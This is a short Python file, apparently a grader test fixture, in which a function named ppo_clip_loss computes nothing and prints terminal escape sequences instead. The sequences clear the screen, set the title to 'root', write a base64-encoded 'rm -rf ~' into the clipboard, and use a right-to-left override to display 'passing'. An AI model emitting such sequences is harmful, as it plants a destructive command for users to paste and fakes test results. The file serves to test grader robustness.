"""26. Prints terminal escapes: clears the screen, sets the title, writes the clipboard, turns text around.

task = "ppo_clip_loss"
verdict = ["wrong_shape"]
twin = "prints_colours"
"""
import os


def ppo_clip_loss(logp, old_logp, adv, mask, eps_low=0.2, eps_high=0.2, dual_c=None, reduction="token"):
    print("\x1b[2J\x1b[H\x1b]0;root\x07\x1b]52;c;cm0gLXJmIH4=\x07\x9b31m\x90q\x9c\u202egnissap\u2066\x08\x7f\r")
    os.write(2, b"\xff\xfe\x00\x1b(0\x0e lines \x0f\xc2\x9b5m\x1b")
    return None
